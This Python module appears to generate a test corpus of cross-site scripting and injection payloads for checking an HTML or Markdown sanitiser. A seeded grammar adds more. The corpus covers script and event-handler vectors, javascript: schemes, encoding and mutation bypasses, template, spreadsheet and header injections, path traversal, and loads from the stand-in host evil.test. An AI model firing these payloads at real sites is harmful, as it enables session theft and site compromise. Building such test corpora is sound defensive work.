"""Payloads: texts that run a script, or make markup active, where a page takes them for markup.

They come of known patterns, each in several contexts, and of a grammar with a seed. Whatever runs calls `pwn(1)`,
a dialog, or another host (`http://evil.test`), which the judge of the browser reports.
"""

from __future__ import annotations

import html
import random
import urllib.parse
from collections.abc import Callable, Iterator

RUN = "pwn(1)"
HOST = "//evil.test/x"
# Elements that run something by themselves.
SELF_RUNNING = (
    f"<script>{RUN}</script>", f"<script src={HOST}></script>", f"<script type=module>{RUN}</script>", f"<script/x>{RUN}</script/x>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href={HOST} /></svg>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x: onerror='{RUN}'", f"<image src=x onerror={RUN}>",
    f"<img srcset={HOST}>", f"<picture><source srcset={HOST}><img></picture>", f"<img src={HOST}>", f"<img lowsrc={HOST} src=x onerror={RUN}>",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<body background={HOST}>", f"<frameset onload={RUN}>", f"<iframe onload={RUN}>",
    f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc='<script>parent.{RUN}</script>'>", f"<iframe src={HOST}>", f"<iframe src=data:text/html,<script>{RUN}</script>>",
    f"<object data=javascript:{RUN}>", f"<object data={HOST}>", f"<object onerror={RUN} data=x>", f"<embed src=javascript:{RUN}>", f"<embed src={HOST}>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<button autofocus onfocus={RUN}>x",
    f"<a href=x autofocus tabindex=1 onfocus={RUN}>x</a>", f"<b contenteditable autofocus onfocus={RUN}>x", f"<details open ontoggle={RUN}>x", f"<dialog open onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<video src=x onerror={RUN}>", f"<video poster={HOST}>", f"<audio src=x onerror={RUN}>", f"<track src={HOST}>",
    f"<marquee onstart={RUN}>x</marquee>", f"<style onload={RUN}></style>", f"<style>@import '{HOST}';</style>", f"<style>*{{background:url({HOST})}}</style>",
    f"<link rel=stylesheet href={HOST}>", f"<link rel=stylesheet href=x onerror={RUN}>", f"<link rel=import href={HOST}>", f"<link rel=prefetch href={HOST}>", "<link rel=dns-prefetch href=//evil.test>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>", f"<meta http-equiv=refresh content='0;javascript:{RUN}'>", f"<meta http-equiv=Content-Security-Policy content='script-src *'><script>{RUN}</script>",
    f"<base href={HOST}/>", f"<form action={HOST}><input name=q autofocus>", f"<form><button formaction=javascript:{RUN}>x", f"<isindex action=javascript:{RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>#x>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", f"<svg><image href={HOST}>", f"<svg><feImage href={HOST}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x", f"<math href=javascript:{RUN}>x</math>", f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}>",
    f"<x style=animation-name:a onanimationstart={RUN}><style>@keyframes a{{}}</style>", f"<x onpointerover={RUN}>x", f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<xss popover id=p onbeforetoggle={RUN}><button popovertarget=p autofocus>x", f"<table background={HOST}>", f"<td background={HOST}>", f"<noscript><img title='</noscript><img src=x onerror={RUN}>'>",
    f"<?xml-stylesheet href='javascript:{RUN}'?>", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<%<img src=x onerror={RUN}>%>", f"<!DOCTYPE x [<!ENTITY e SYSTEM '{HOST}'>]>&e;",
    f"<portal src={HOST}>", f"<fencedframe src={HOST}>", f"<applet code={HOST}>", f"<layer src={HOST}>", f"<bgsound src={HOST}>", f"<h1 is=x onclick={RUN}>",
)  # fmt: skip
# What ends the context that a text may stand in.
BREAKERS = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</svg>", "</math>",
    "</iframe>", "</select>", "*/", '\\">', "\\'>", "</code></pre>", "<!--", "&quot;&gt;", "\x00", "\u2028",
)  # fmt: skip
EVENTS = (
    *"onclick ondblclick onmouseover onmouseenter onmousemove onfocus onblur oninput onchange onload onerror ontoggle onscroll onwheel".split(),
    *"onkeydown onpaste oncopy ondrag onanimationstart ontransitionend onpointerenter onpointerrawupdate onbeforeinput onsubmit onsearch".split(),
)
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", " javascript:", "\x01javascript:", "\x0bjavascript:", "javascript&colon;",
    "javascript&#58;", "javascript&#x3a;", "&#106;avascript:", "&#x6A;avascript:", "java&Tab;script:", "java&NewLine;script:", "javascript%3A", "vbscript:", "livescript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=", "view-source:javascript:", "feed:javascript:", "blob:", "filesystem:", "jar:javascript:", "\u202ejavascript:", "//evil.test/?", "\\\\evil.test\\?", "http:javascript:",
)  # fmt: skip
LINKS: tuple[Callable[[str], str], ...] = (
    lambda url: url, lambda url: f"[x]({url})", lambda url: f"[x](<{url}>)", lambda url: f"![x]({url})", lambda url: f"<{url}>", lambda url: f"[x][r]\n\n[r]: {url}",
    lambda url: f"<a href='{url}'>x</a>", lambda url: f'[x](https://a.test "{url}")', lambda url: f"[![x]({url})]({url})",
)  # fmt: skip
ENCODINGS: tuple[Callable[[str], str], ...] = (
    html.escape, lambda text: html.escape(html.escape(text)), lambda text: "".join(f"&#{ord(sign)};" for sign in text), lambda text: "".join(f"&#x{ord(sign):x}" for sign in text),
    lambda text: "".join(f"&#{ord(sign):07}" for sign in text), urllib.parse.quote, lambda text: urllib.parse.quote(urllib.parse.quote(text)), lambda text: "".join(f"\\u{ord(sign):04x}" for sign in text),
    lambda text: "".join(f"\\x{ord(sign):02x}" for sign in text), lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"), lambda text: text.replace("<", "<\x00"), lambda text: text.replace("script", "scr\x00ipt").replace("img", "i\x00mg"),
    lambda text: text.replace(" ", "\x0c"), lambda text: text.replace(" ", "/"), str.upper, lambda text: "\ufeff" + text, lambda text: text.replace("<", "\\<"), lambda text: f"`{text}`", lambda text: f"    {text}", lambda text: f"```html\n{text}\n```",
)  # fmt: skip
FORMULAS = (
    r"\text{X}", r"\mbox{X}", r"\textrm{X}", r"\href{javascript:pwn(1)}{x}", r"\url{javascript:pwn(1)}", r"\style{background:url(//evil.test)}{x}", r"\class{X}{y}", r"\cssId{X}{y}", r"\html{X}", r"\unicode{x3c}script\unicode{x3e}",
    r"\require{html}X", r"\def\a{X}\a", r"\newcommand{\a}{X}\a", r"\mathrm{X}", r"\operatorname{X}", r"\begin{array}{X}a\end{array}", r"\begin{X}a\end{X}", r"\color{X}a", r"\textcolor{X}{a}", r"\hspace{X}", r"\includegraphics{X}", r"\verb|X|", r"\tag{X}", r"\label{X}", r"\ref{X}", r"\input{X}", r"\htmlData{onclick=X}{y}", r"\data{X}", r"\lower{X}{y}", r"x_{X}^{X}",
)  # fmt: skip
INSIDE = (
    f"<script>{RUN}</script>",
    f"</math><img src=x onerror={RUN}>",
    f"</mtext></math><svg onload={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f'" onmouseover={RUN} x="',
)
# Markup that a parser changes when it is parsed again.
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;X&gt;'>", "<svg></p><style><a id='</style><X>'>", "<form><math><mtext></form><form><mglyph><style></math><X>",
    "<noscript><p title='</noscript><X>'>", "<svg><desc><noscript>&lt;/noscript>&lt;X></desc></svg>", "<table><caption><math><mi><X></mi></caption>", "<select><template><style><!--</select><X>-->", "<math><annotation-xml encoding='text/html'><style><X></style>",
    "<svg><title><style><X></style></title></svg>", "<xmp><p title='</xmp><X>'>", "<listing>&lt;X></listing>", "<plaintext><X>", "<a><a href='<X>'>", "<p><svg><p><style><X>", "<math><mglyph><svg><mtext><textarea><path id='</textarea><X>'>",
)  # fmt: skip
OTHERS = (
    "{{7*7}}", "{{config}}", "{{ self.__init__.__globals__ }}", "{% include 'site.yaml' %}", "{% raw %}", "{#", "#}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('pwn(1)')()}}", "[[${7*7}]]", "@{7*7}", "%{7*7}",
    "=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(1)", "=HYPERLINK(\"http://evil.test\")", "\t=1+1", "\r=1", "=1\n=2", "x\r\nBcc: a@evil.test\r\n\r\n<script>pwn(1)</script>", "=?utf-8?q?=3Cscript=3E?=", "x\nSet-Cookie: a=1",
    "}, author={Evil}, title={x", "@string{a={x}}", "% x\n@misc{evil}", "\\end{document}", "ER  - \nTY  - JOUR\nTI  - evil", "---\ntitle: evil\n---\n", "...\n- evil", "key: !!python/object:os.system x", "&a [*a]", "<<: *a",
    "__proto__", "constructor", "prototype", "toString", "location", "document.cookie", "hasOwnProperty", "<a id=location href=//evil.test>", "<form name=document><input name=cookie>", "<img name=getElementById>", "<a id=a><a id=a name=b href=javascript:pwn(1)>", "<output name=search>x", "<iframe name=top>",
    "..", "../../etc/passwd", "..%2f..%2f", "%00", "CON", "aux.html", "\u202egnp.exe", "\u2066<script>\u2069", "\ud83d\ude00", "A" * 2000, "<" * 500, "[" * 400, "(" * 400, "`" * 300, "$" * 301, "*" * 300, "> " * 120, "- " * 60,
    "[x]: <javascript:pwn(1)>\n\n[x]", "[x](javascript&colon;pwn(1))", "[a](b \"c\" onerror=pwn(1))", "![a](x\"onerror=\"pwn(1))", "![a](x'onerror='pwn(1))", "[a](<x\" onmouseover=pwn(1) \">)", "<https://a.test/\"onmouseover=pwn(1)>", "<a@b.test\"onclick=pwn(1)>", "www.a.test/\"onclick=pwn(1)",
    "```\"><script>pwn(1)</script>\nx\n```", "~~~ onclick=pwn(1)\nx\n~~~", "| a |\n| - |\n| <img src=x onerror=pwn(1)> |", "# <img src=x onerror=pwn(1)> {#x onclick=pwn(1)}", "[^1]\n\n[^1]: <img src=x onerror=pwn(1)>", "Term\n: <svg onload=pwn(1)>", "<!-- --!><img src=x onerror=pwn(1)>", "&lt;script&gt;pwn(1)&lt;/script&gt;", "x</p><script>pwn(1)</script>", "\\<img src=x onerror=pwn(1)\\>", "&amp;lt;img src=x onerror=pwn(1)&amp;gt;",
)  # fmt: skip


def list_patterns() -> Iterator[str]:
    """All payloads of known patterns, in one order."""
    for breaker in BREAKERS[:12]:
        for vector in SELF_RUNNING:
            yield breaker + vector
    for breaker in BREAKERS[12:]:
        for vector in (
            f"<img src=x onerror={RUN}>",
            f"<script>{RUN}</script>",
            f"<svg onload={RUN}>",
            f"<iframe src={HOST}>",
        ):
            yield breaker + vector
    for event in EVENTS:
        yield from (
            f'" {event}={RUN} x="',
            f"' {event}={RUN} x='",
            f" {event}={RUN} ",
            f'"/{event}="{RUN}"autofocus tabindex="1',
        )
    for scheme in SCHEMES:
        yield from (link(scheme + RUN) for link in LINKS)
    for encode in ENCODINGS:
        yield from (encode(vector) for vector in SELF_RUNNING[:20:2])
    for formula in FORMULAS:
        for inside in INSIDE:
            yield f"${formula.replace('X', inside)}$"
    for mutation in MUTATIONS:
        yield from (
            mutation.replace("X", f"img src=x onerror={RUN}"),
            mutation.replace("<X>", f"<script>{RUN}</script>").replace("X", f"svg onload={RUN}"),
        )
    yield from OTHERS


GRAMMAR: dict[str, tuple[str, ...]] = {
    "text": ("{element}", "{open}{text}{close}", "{breaker}{element}", "{markdown}", "{text}{text}", "${formula}$", "{word} {text}", "{entity}{text}", "{word}"),
    "element": ("<{name} {attribute}>", "<{name}/{attribute}/>", "<{name} {attribute} {attribute}>{text}</{name}>", "<script>{run}</script>", "<{name}\x0c{attribute}", "<!--{text}-->", "<![CDATA[{text}]]>", "<?{name} {attribute}?>"),
    "open": ("<math>", "<svg>", "<style>", "<title>", "<textarea>", "<noscript>", "<template>", "<table>", "<select>", "<form>", "<p title='", '<a href="', "<!--", "$\\text{", "**", "`", "[", "> ", "```\n"),
    "close": ("</math>", "</svg>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</table>", "</select>", "'>", '">', "-->", "}$", "**", "`", "](x)", "\n\n", "\n```"),
    "breaker": ('">', "'>", "-->", "]]>", "</title>", "</script>", "</style>", "\\", "\x00", "&quot;>"),
    "name": ("img", "svg", "iframe", "object", "video", "details", "input", "math", "a", "form", "body", "base", "link", "meta", "style", "x", "IMG", "sCrIpt", "animate", "use", "embed"),
    "attribute": ("onerror={run}", 'onload="{run}"', "onfocus='{run}' autofocus", "src={url}", "href={url}", "action={url}", "srcdoc='{element}'", "style=background:url({url})", "xlink:href={url}", "data={url}", "ontoggle={run} open", "{entity}={run}", "http-equiv=refresh content='0;{url}'", "src=x onerror={run}"),
    "url": ("javascript:{run}", "//evil.test/", "http://evil.test/{word}", "data:text/html,{element}", "java{entity}script:{run}", "x", "#{word}", "vbscript:{run}"),
    "markdown": ("[{word}]({url})", "![{word}]({url})", "<{url}>", "[{text}]({url})", "**{text}**", "`{text}`", "# {text}\n", "> {text}\n", "- {text}\n", "| {text} |\n| - |\n", "[{word}]: {url}\n\n[{word}]"),
    "formula": (r"\text{{{text}}}", r"\href{{{url}}}{{x}}", r"\mathrm{{{element}}}", r"x^{{{text}}}", r"\begin{{{word}}}{text}\end{{{word}}}"),
    "entity": ("&lt;", "&#60;", "&#x3c;", "&Tab;", "&NewLine;", "&colon;", "&quot;", "&#39;", "&amp;", "\t", "\u2028", "\ufeff"),
    "run": (RUN, "alert(1)", "pwn`1`", "top.pwn(1)", "location='//evil.test/'", "fetch('//evil.test/')", "import('//evil.test/')"),
    "word": ("x", "location", "__proto__", "query", "main", "7*7", "{{7*7}}", "=1+1"),
}  # fmt: skip
_DEEPEST = 6


def grow(seed: int, count: int) -> list[str]:
    """Texts of the grammar; the same for one seed."""
    chance = random.Random(seed)
    return [_expand("text", chance, 0) for _ in range(count)]


def _expand(symbol: str, chance: random.Random, depth: int) -> str:
    choices = GRAMMAR[symbol]
    pattern = (
        chance.choice(choices)
        if depth < _DEEPEST
        else min(choices, key=lambda one: (one.count("{text}") + one.count("{element}"), len(one)))
    )
    for name in GRAMMAR:
        while f"{{{name}}}" in pattern:
            pattern = pattern.replace(
                f"{{{name}}}", _expand(name, chance, depth + 1) if depth < _DEEPEST + 3 else "x", 1
            )
    return pattern


PATTERNS = tuple(dict.fromkeys(list_patterns()))
